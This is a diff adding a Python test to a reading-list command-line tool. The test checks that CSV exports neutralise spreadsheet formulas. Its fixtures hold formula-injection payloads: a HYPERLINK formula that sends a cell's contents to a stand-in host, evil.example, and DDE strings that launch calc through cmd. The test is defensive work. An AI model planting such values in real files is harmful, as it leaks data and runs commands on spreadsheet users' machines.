@@ -183,3 +183,36 @@ def test_nothing_in_readlist_runs_a_shell_and_only_the_editor_starts_a_program()
     editor = (PACKAGE / "external_editor.py").read_text(encoding="utf-8")
     calls = re.findall(r"subprocess\.\w+\((.*)\)", editor)
     assert calls == ["command, check=False"], calls
+
+
+FORMULA_FEED = (
+    b'Mar 12\n\n=HYPERLINK("http://evil.example/?d="&A1,"Click")\n\n'
+    b"+cmd|' /C calc'!A0 in the abstract.\n\n"
+    b"@SUM(1+1)*cmd title\n\n-2+3 abstract.\n"
+)
+
+
+def test_a_csv_export_never_holds_a_live_spreadsheet_formula(tmp_path: Path) -> None:
+    """Feed text, a note and a tag starting with = + - @ are exported with a leading quote.
+
+    Fails today: export._csv_cell joins list cells (links, tags) and returns before the formula
+    guard, so a tag such as `=cmd|' /c calc'!a0` (from a shared Markdown list) stays live.
+    """
+    import csv
+    import io
+
+    db = tmp_path / "library.json"
+    (tmp_path / "f.txt").write_bytes(FORMULA_FEED)
+    env: dict[str, str] = {}
+    readlist_cli("import", "--db", str(db), str(tmp_path / "f.txt"), env=env)
+    first = readlist_cli("list", "--db", str(db), env=env).stdout.split()[0].decode()
+    readlist_cli("set", "--db", str(db), first, "--note=@echo hi", env=env)
+    shared = "# readlist: 1 paper\n\n- [ ] @SUM(1+1)\\*cmd title\n  - Tags: =cmd|' /c calc'!a0\n"
+    (tmp_path / "shared.md").write_text(shared, encoding="utf-8")
+    readlist_cli("import", "--db", str(db), str(tmp_path / "shared.md"), env=env)
+    out = readlist_cli("export", "--db", str(db), "-f", "csv", env=env).stdout.decode()
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert len(rows) == 2
+    cells = [row[name] for row in rows for name in ("title", "abstract", "note", "tags")]
+    assert [c for c in cells if c and c[0] in "=+-@\t\r"] == [], cells
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
